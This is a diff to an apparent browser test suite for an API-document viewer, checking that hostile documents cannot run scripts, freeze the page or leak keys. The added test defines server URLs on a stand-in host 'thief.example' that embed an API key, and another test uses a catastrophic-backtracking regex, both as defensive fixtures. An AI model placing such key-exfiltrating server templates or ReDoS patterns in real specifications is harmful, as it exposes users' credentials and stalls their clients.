@@ -1,6 +1,6 @@
 import { describeInChromium } from './in-chromium.ts';
 
-/** A document with a description and one method. */
+/** Creates a document with a description and one method. */
 const documentWith = (description: string, method: object = {}, components: object = {}) =>
   JSON.stringify(
     {
@@ -22,7 +22,7 @@ const DESCRIPTION = `
 `;
 
 describeInChromium('hostile documents', (chromium) => {
-  it('run nothing and fetch nothing by their descriptions', async () => {
+  it('run no code and fetch nothing through their descriptions', async () => {
     const page = await chromium.open();
     const outside: string[] = [];
     page.on('request', (request) => {
@@ -32,7 +32,7 @@ describeInChromium('hostile documents', (chromium) => {
     const description = page.locator('.docs .markdown').first();
     await description.waitFor();
     expect(await description.locator('img, script, iframe').count()).toBe(0);
-    // Pictures are links that nobody follows unasked; a link that would run something is none.
+    // Pictures become links that open only on a click. A link that would run code is not created.
     const links = await description
       .locator('a')
       .evaluateAll((all) => all.map((link) => [link.getAttribute('href'), link.getAttribute('rel')]));
@@ -81,7 +81,7 @@ describeInChromium('hostile documents', (chromium) => {
     await page.getByText('export interface Node').waitFor();
   }, 60_000);
 
-  it('that can not be read at all are refused in words', async () => {
+  it('are rejected with a message when they cannot be read at all', async () => {
     const page = await chromium.open();
     await page.getByRole('button', { name: 'Open…' }).click();
     await page.getByLabel('From a file').setInputFiles({
@@ -93,7 +93,7 @@ describeInChromium('hostile documents', (chromium) => {
     await page.locator('.problems li', { hasText: 'nested more than 200 levels' }).waitFor();
   }, 60_000);
 
-  it('whose patterns take for ever do not hold up the page', async () => {
+  it('do not block the page with patterns that run for ever', async () => {
     const param = { name: 'text', required: true, schema: { type: 'string', pattern: '^(a+)+$' } };
     const page = await chromium.open();
     await chromium.openFile(page, 'slow.json', documentWith('', { params: [param] }));
@@ -103,10 +103,42 @@ describeInChromium('hostile documents', (chromium) => {
     await page.getByRole('textbox', { name: 'text', exact: true }).fill(`${'a'.repeat(40)}!`);
     await page.getByRole('button', { name: 'Send request' }).click();
     await page.getByText('Waiting for the answer…').waitFor();
-    // The page answers meanwhile.
+    // The page responds meanwhile.
     await page.getByRole('button', { name: 'Docs' }).click();
     await page.locator('.descriptor').first().waitFor();
     await page.getByRole('button', { name: 'Try it' }).click();
     await page.getByText('takes too long to work with').waitFor({ timeout: 30_000 });
+  }, 60_000);
+
+  it('with servers of their own get no key of another service, and no request before the user sends one', async () => {
+    const page = await chromium.open('method=eth_getBlockByNumber&view=try');
+    const { httpUrl } = chromium.world;
+    const { origin, host } = new URL(httpUrl);
+    await page.getByLabel('Address', { exact: true }).fill(httpUrl);
+    await page.getByRole('button', { name: 'Send request' }).click();
+    await page.locator('.exchange .badge.ok').waitFor();
+    const outside: string[] = [];
+    await page.context().route(/example/, (route) => {
+      outside.push(route.request().url());
+      return route.abort();
+    });
+    const variables = { apiKey: { default: 'API_KEY' }, host: { default: host } };
+    const hostile = JSON.parse(documentWith('a document'));
+    hostile.servers = [
+      { name: 'mine', url: `${origin}/v3/\${apiKey}`, variables },
+      { name: 'theirs', url: 'https://thief.example/${apiKey}', variables },
+      { name: 'socket', url: 'wss://thief.example/${host}/${apiKey}', variables },
+    ];
+    await chromium.openFile(page, 'thief.json', JSON.stringify(hostile));
+    await page.getByRole('option', { name: 'ask' }).click();
+    await page.getByRole('button', { name: 'Try it' }).click();
+    const key = page.getByLabel('apiKey');
+    expect(await key.inputValue()).toBe('');
+    await key.fill('a-secret-key');
+    await page.getByLabel('Server').selectOption({ label: 'theirs' });
+    expect(await key.inputValue()).toBe('');
+    await page.getByText('WebSocket', { exact: true }).click();
+    expect(await page.getByLabel('Address', { exact: true }).inputValue()).not.toContain('a-secret-key');
+    expect(outside).toEqual([]);
   }, 60_000);
 });
